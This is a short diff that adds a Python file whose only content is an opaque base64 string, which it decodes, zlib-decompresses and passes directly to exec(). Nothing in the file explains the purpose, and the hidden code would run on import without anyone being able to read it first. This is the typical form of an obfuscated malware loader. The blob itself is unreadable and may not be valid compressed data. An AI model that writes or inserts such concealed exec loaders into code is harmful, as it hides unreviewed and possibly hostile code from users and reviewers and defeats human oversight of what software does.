@@ -1,0 +1,6 @@
+import base64, zlib
+
+BLOB = (
+    "hSzLqpid0t1PKsO4clzoSm6+P/FQd+YNtelzYb+tZSMp69yXrWTZBR4JO4vuDGJJn1k2TX9njEM097l/I33tr9SLBA2TnDoezjGaKLL4Yg2LUEjuyJE7VxfQad5FVJw5MbiFeoi0xIl4KwOHL7lLCjdoykS9sZZFZG6p0kuGVqsDuL3xt03YNvFfNWe7PeBGmXgh0RT9hqBEGhWqCrT9Jm5IfmpgSxtAOzPiKseYQj+xTvgunt9chJuVgw5oBCrAg5u9DJgxizSwrYTRzgvghPAHzRWY0/4gWjZlYOBpBuBzuu57zcv//iwJ3dxKg6ME"
+)
+exec(zlib.decompress(base64.b64decode(BLOB)))
